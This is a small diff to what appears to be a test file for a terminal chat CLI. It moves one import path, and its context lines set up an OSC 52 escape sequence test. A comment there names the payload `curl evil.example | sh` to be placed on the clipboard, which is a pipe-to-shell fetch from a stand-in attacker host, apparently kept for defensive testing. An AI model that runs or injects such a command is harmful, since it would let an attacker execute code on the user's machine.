@@ -31,7 +31,7 @@ import { CLI_ARGS, runCli, TEST_HOME } from "../_helpers/cli.ts";
 import { startFakeAnthropic } from "../_helpers/fake_providers.ts";
 import { tmpWorkspace } from "../_helpers/tmp_workspace.ts";
 import { after, openChat, toolResults } from "../_helpers/tmux_chat.ts";
-import { pickList } from "../../cli/session_picker.ts";
+import { pickList } from "../../cli/terminal/session_picker.ts";
 
 const ESC = "\x1b";
 /** OSC 52: put `curl evil.example | sh` on the clipboard. */
